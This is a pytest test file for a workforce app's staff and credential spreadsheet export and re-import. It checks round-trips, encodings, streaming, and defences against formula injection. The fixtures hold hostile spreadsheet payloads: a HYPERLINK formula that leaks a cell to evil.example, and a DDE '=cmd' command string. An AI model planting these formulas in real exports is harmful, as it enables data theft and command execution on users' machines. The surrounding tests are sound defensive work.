import datetime
import io

import pytest
from openpyxl import load_workbook

from apps.certifications.models import Credential
from apps.demo import workforce
from apps.imports import exporting
from apps.imports.credentials import credentials_import
from apps.imports.parsing import ImportFile
from apps.imports.report import ImportOptions
from apps.imports.staff import staff_import
from apps.organisation.models import Department, Employee
from tests import factories

pytestmark = pytest.mark.django_db

D = datetime.date
ATTACK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'


def export(kind, *, what="staff", **options):
    if what == "staff":
        header, rows = exporting.STAFF_HEADER, exporting.staff_rows(Employee.objects.order_by("employee_number"))
    else:
        credentials = Credential.objects.order_by("employee__employee_number", "certification_type__code", "issued_on")
        header, rows = exporting.CREDENTIAL_HEADER, exporting.credential_rows(credentials)
    return exporting.export_bytes(kind, header, rows, **options)


def reimport(data, kind, user, *, what="staff", **options):
    file = ImportFile.from_bytes(data, name=f"{what}.{kind}")
    run = staff_import if what == "staff" else credentials_import
    return run(file=file, user=user, options=ImportOptions(**options) if options else None)


@pytest.fixture
def people(org):
    morgan = factories.UserFactory(username="morgan")
    org.ed.managers.add(morgan, factories.UserFactory(username="avery"))
    ana = factories.EmployeeFactory(
        employee_number="E1",
        first_name="Zoë",
        last_name="O'Brien",
        email="zoe@example.org",
        user=factories.UserFactory(username="zoe"),
        role=org.nurse,
        department=org.ed,
        hired_on=D(2020, 1, 6),
        assigned_on=D(2022, 5, 1),
    )
    ben = factories.EmployeeFactory(
        employee_number="E2",
        first_name="Ben",
        last_name="-Dash",
        email="",
        role=org.paramedic,
        department=org.icu,
        hired_on=D(2019, 3, 1),
        terminated_on=D(2025, 12, 31),
    )
    factories.CredentialFactory(
        employee=ana,
        certification_type=org.bls,
        issued_on=D(2025, 9, 5),
        expires_on=D(2027, 9, 30),
        card_number="+123",
        notes="@SUM(1+1)",
    )
    factories.CredentialFactory(
        employee=ana,
        certification_type=org.life,
        issued_on=D(2010, 1, 1),
        expires_on=None,
        verification="pending",
        issuer="",
    )
    factories.CredentialFactory(
        employee=ben,
        certification_type=org.acls,
        issued_on=D(2025, 1, 10),
        expires_on=D(2027, 1, 31),
        verification="rejected",
        rejection_reason="=cmd|' /C calc'!A0",
    )
    return ana, ben


def test_the_staff_export_has_the_import_layout(people):
    lines = export("csv").decode("utf-8-sig").splitlines()

    assert lines == [
        "employee_number,first_name,last_name,email,username,role,department,manager,hired_on,assigned_on,terminated_on",
        "E1,Zoë,O'Brien,zoe@example.org,zoe,rn,ED,avery; morgan,2020-01-06,2022-05-01,",
        "E2,Ben,'-Dash,,,paramedic,ICU,,2019-03-01,2019-03-01,2025-12-31",
    ]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("what", ["staff", "credentials"])
def test_an_export_imports_back_unchanged(people, hr_admin, recomputes, kind, what):
    report = reimport(export(kind, what=what), kind, hr_admin, what=what)

    assert report.ok, report.errors
    assert (report.new, report.changed, report.unchanged) == (0, 0, 2 if what == "staff" else 3)


def test_a_us_dated_latin1_export_imports_back_with_the_same_options(people, hr_admin, recomputes):
    data = export("csv", encoding="latin-1", date_format="%m/%d/%Y")

    assert "2022-05-01" not in data.decode("latin-1") and "05/01/2022" in data.decode("latin-1")
    report = reimport(data, "csv", hr_admin, encoding="latin-1", date_format="%m/%d/%Y")
    assert report.unchanged == 2


def test_a_value_latin1_cannot_hold_is_refused_rather_than_mangled(org):
    factories.EmployeeFactory(employee_number="E1", first_name="Nguyễn", role=org.nurse, department=org.ed)

    with pytest.raises(exporting.ExportError, match="Row 2 has 'ễ', which latin-1 cannot store"):
        export("csv", encoding="latin-1")


def test_a_value_latin1_cannot_hold_is_named_by_its_row_in_a_later_batch(org, monkeypatch):
    monkeypatch.setattr(exporting, "CSV_BATCH", 2)
    for number, name in enumerate(["Ana", "Ben", "Nguyễn", "Dee"], start=1):
        factories.EmployeeFactory(employee_number=f"E{number}", first_name=name, role=org.nurse, department=org.ed)

    with pytest.raises(exporting.ExportError, match="Row 4 has 'ễ', which latin-1 cannot store"):
        export("csv", encoding="latin-1")


@pytest.mark.parametrize("what", ["staff", "credentials"])
def test_the_csv_is_the_same_whatever_the_batch_size(people, monkeypatch, what):
    # In one batch with the header, every column is mixed and goes value by value; one row per batch
    # takes the text and date columns' fast paths.
    Employee.objects.filter(employee_number="E1").update(first_name=ATTACK)
    whole = export("csv", what=what, date_format="%d.%m.%Y")
    monkeypatch.setattr(exporting, "CSV_BATCH", 1)

    assert export("csv", what=what, date_format="%d.%m.%Y") == whole


def test_formula_injection_is_neutralised_in_csv(people):
    Employee.objects.filter(employee_number="E1").update(first_name=ATTACK)

    text = export("csv").decode("utf-8-sig") + export("csv", what="credentials").decode("utf-8-sig")

    assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text
    assert ",'+123," in text and ",'@SUM(1+1)" in text and "'=cmd|" in text and ",'-Dash," in text


def test_formula_injection_is_neutralised_in_xlsx_and_still_round_trips(people, hr_admin, recomputes):
    Employee.objects.filter(employee_number="E1").update(first_name=ATTACK)
    data = export("xlsx")

    sheet = load_workbook(io.BytesIO(data)).active
    cell = sheet["B2"]
    assert (cell.value, cell.data_type) == ("'" + ATTACK, "s")
    assert sheet["I2"].value == datetime.datetime(2020, 1, 6)
    assert reimport(data, "xlsx", hr_admin).unchanged == 2
    assert Employee.objects.get(employee_number="E1").first_name == ATTACK


def test_the_demo_organisation_loads_from_its_two_files_and_exports_back_the_same(hr_admin, recomputes):
    workforce.demo_workforce_create(employees=60, seed=3)
    staff_file, credentials_file = export("xlsx"), export("csv", what="credentials")
    counts = Employee.objects.count(), Credential.objects.count()
    Credential.objects.all().delete()
    Employee.objects.all().delete()
    Department.managers.through.objects.all().delete()

    staff = reimport(staff_file, "xlsx", hr_admin)
    credentials = reimport(credentials_file, "csv", hr_admin, what="credentials")

    assert (staff.new, credentials.new) == counts
    assert staff.notes == [
        "demo-manager will manage Emergency Department.",
        "demo-manager will manage Intensive Care Unit (critical care).",
    ]
    assert load_rows(export("xlsx")) == load_rows(staff_file)
    assert export("csv", what="credentials") == credentials_file
    assert reimport(staff_file, "xlsx", hr_admin).unchanged == counts[0]
    assert reimport(credentials_file, "csv", hr_admin, what="credentials").unchanged == counts[1]


def load_rows(data):
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


@pytest.mark.parametrize("what", ["staff", "credentials"])
def test_the_streamed_csv_is_the_written_file_piece_by_piece(people, monkeypatch, what):
    monkeypatch.setattr(exporting, "CSV_BATCH", 1)
    if what == "staff":
        header, rows = exporting.STAFF_HEADER, exporting.staff_rows(Employee.objects.order_by("employee_number"))
    else:
        credentials = Credential.objects.order_by("employee__employee_number", "certification_type__code", "issued_on")
        header, rows = exporting.CREDENTIAL_HEADER, exporting.credential_rows(credentials)

    pieces = list(exporting.stream_table("csv", header, rows))

    assert len(pieces) > 2 and b"".join(pieces) == export("csv", what=what)


def test_the_streamed_xlsx_is_the_written_workbook(people):
    rows = exporting.staff_rows(Employee.objects.order_by("employee_number"))

    streamed = b"".join(exporting.stream_table("xlsx", exporting.STAFF_HEADER, rows))

    sheet = load_workbook(io.BytesIO(streamed)).active
    written = load_workbook(io.BytesIO(export("xlsx"))).active
    assert list(sheet.iter_rows(values_only=True)) == list(written.iter_rows(values_only=True))
